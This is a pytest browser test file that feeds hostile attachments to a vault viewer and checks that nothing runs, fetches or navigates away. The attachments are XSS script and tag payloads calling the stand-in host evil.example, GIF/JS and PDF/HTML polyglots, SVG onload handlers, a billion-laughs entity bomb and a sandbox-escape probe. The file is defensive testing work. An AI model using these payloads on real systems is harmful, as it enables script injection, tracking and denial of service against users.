"""Attachments that would act, in a real browser: text or points, of which nothing runs, fetches or leads away."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from email.message import EmailMessage
from typing import Any

import pytest

import pdf_samples
import warm
from browser_desk import Practice, Vault

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = "https://evil.example/"
SCRIPT = f"<script>fetch('{EVIL}?script');top.ran=1;parent.ran=1;alert(1);open('{EVIL}')</script>"
TAGS = (
    f"<img src='{EVIL}?img' onerror='parent.ran=1'><iframe src='{EVIL}?frame'></iframe>"
    f"<object data='{EVIL}?data'></object>"
    f"<link rel=stylesheet href='{EVIL}?css'><meta http-equiv=refresh content='0;url={EVIL}?go'><base href='{EVIL}'>"
    f"<form action='{EVIL}?form'><input autofocus onfocus='parent.ran=1'></form><video src='{EVIL}?v' autoplay></video>"
)
REACH = """async () => {
  const tried = {};
  for (const [name, act] of Object.entries({
    storage: () => localStorage.length,
    base: () => new Promise((yes, no) => {
      const asked = indexedDB.open("dueprocess-vault"); asked.onsuccess = yes; asked.onerror = no; }),
    parent: () => parent.document.title,
    address: () => { top.location = "about:blank"; },
    opened: () => { if (!window.open("about:blank")) throw new Error("no"); },
    fetched: () => fetch("vault.js"),
    other: () => fetch("https://evil.example/"),
    worker: () => new Worker("frame.js"),
  })) { try { await act(); tried[name] = "reached"; } catch { tried[name] = "refused"; } }
  return {origin: window.origin, reached: Object.keys(tried).filter(name => tried[name] === "reached")};
}"""


def gif_and_script() -> bytes:
    """A picture whose first bytes begin a comment of JavaScript, and whose last ones are its program."""
    image = b",\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02L\x01\0" + b";"
    head = b"GIF89a" + b"/*" + b"\x10\0" + b"\x80\0\0" + b"\0\0\0\xff\xff\xff"
    return head + image + f"*/=1;fetch('{EVIL}?gif');".encode()


def pdf_and_page() -> bytes:
    """A file of PDF whose second line is a page of HTML; its own scripts and launches stand in it as well."""
    head, _, rest = pdf_samples.acting().partition(b"\n")
    return head + b"\n%" + (SCRIPT + TAGS).encode() + b"\n" + rest


def tracking_mail() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "Amt <amt@behoerde.example>", f"Eilt {SCRIPT}"
    mail.set_content("Bitte sofort.")
    mail.add_alternative(f"<html><body>Bitte sofort.{SCRIPT}{TAGS}</body></html>", subtype="html")
    mail.add_attachment(gif_and_script(), maintype="image", subtype="gif", filename="logo.gif.js")
    mail.add_attachment(f"<svg onload=\"fetch('{EVIL}')\">{SCRIPT}</svg>".encode(), maintype="image", subtype="svg+xml",
                        filename="stamp.svg")  # fmt: skip
    mail.add_attachment(pdf_and_page(), maintype="text", subtype="html", filename="order.pdf")
    return mail.as_bytes()


LOL = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
FILES = {
    "logo.gif": gif_and_script(),
    "order.pdf": pdf_and_page(),
    "page.htm": f"<html><!--\n%PDF-1.7\n-->{SCRIPT}{TAGS}</html>".encode(),
    "saved.mht": (
        "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n"
        f"Content-Location: {EVIL}\n\n<html>{SCRIPT}{TAGS}</html>\n--b--\n"
    ).encode(),
    "page.xhtml": f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body>{SCRIPT}</body></html>".encode(),
    "laughs.svg": f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY l0 'ha'>{LOL}]><svg>&l9;{SCRIPT}</svg>".encode(),
    "foreign.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject>{TAGS}</foreignObject>{SCRIPT}</svg>".encode(),
    "run.js": f"fetch('{EVIL}');top.ran=1;//".encode(),
    "go.url": f"[InternetShortcut]\r\nURL={EVIL}\r\n".encode(),
    "mail.eml": tracking_mail(),
}
SHOWN = {"logo.gif": "canvas"}


@pytest.fixture(scope="module")
def taken(practice: Practice, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, data in FILES.items():
        (folder / name).write_bytes(data)
    environ = {**os.environ, "DUEPROCESS_HOME": str(practice.home), "HOME": str(practice.home.parent)}
    files = sorted(folder.iterdir())
    command = [warm.COMMAND, "intake", *map(str, files), "--json"]
    ran = warm.run(command, env=environ, capture_output=True, text=True, check=True)
    cases = [str(json.loads(line)["case"]) for line in ran.stdout.splitlines()]
    return dict(zip((file.name for file in files), cases, strict=True))


@pytest.fixture(scope="module")
def vault(practice: Practice, chromium: Any, local: str, request: pytest.FixtureRequest) -> Iterator[Vault]:
    """The desk's vault; or the one of a person's own machine, which has the same frame (tests/client)."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    made = Vault(practice, context, local if getattr(request, "param", "") == "local" else "")
    made.unlock("birch")
    yield made
    context.close()


WHERE = [("served", name) for name in sorted(FILES)] + [
    ("local", name) for name in ("logo.gif", "mail.eml", "order.pdf")
]


@pytest.mark.parametrize(("vault", "name"), WHERE, indirect=["vault"])
def test_nothing_of_it_runs_or_leaves(vault: Vault, taken: dict[str, str], name: str) -> None:
    happened: list[str] = []
    for event in ("dialog", "download", "popup"):
        vault.tab.on(event, lambda _, event=event: happened.append(event))
    vault.asked.clear()
    vault.go(f"/case/{taken[name]}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(SHOWN.get(name, ".line"), state="attached")
    allowed = {"body", "main", "section", "div", "dl", "dt", "dd", "h2", "p", "span", "canvas", "button", "mark"}
    inside = set(frame.evaluate("[...document.querySelectorAll('body, body *')].map(one => one.localName)"))
    assert inside - {"script"} <= allowed
    assert frame.evaluate("[...document.scripts].map(one => one.src)") == [f"{vault.address}frame.js"]
    assert frame.evaluate(
        "[...document.querySelectorAll('*')].every(o => [...o.attributes].every(a => !/^on/i.test(a.name)))"
    )
    frame.click("main", position={"x": 40, "y": 20})
    for key in ("Enter", "Space", "Control+a"):
        vault.tab.keyboard.press(key)
    assert frame.evaluate(REACH) == {"origin": "null", "reached": []}
    assert frame.url == f"{vault.address}frame.html"
    assert frame.child_frames == []
    assert vault.tab.evaluate("typeof window.ran") == "undefined"
    ours = (vault.address, vault.practice.at("api", ""))
    assert not [url for url in vault.asked if not url.startswith((*ours, "data:", "blob:null"))]
    assert happened == []


def test_the_picture_is_points_and_not_the_file(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['logo.gif']}", ".face")
    frame = vault.frame()
    frame.wait_for_selector("canvas")
    assert "evil.example" not in frame.content()
    assert frame.evaluate("document.querySelector('canvas').width") == int.from_bytes(b"/*", "little") * 4096 // 10799


def test_what_expands_without_end_stays_the_text_that_it_is(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['laughs.svg']}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "&l9;" in frame.inner_text("main")
    assert len(frame.inner_text("main")) < 4000
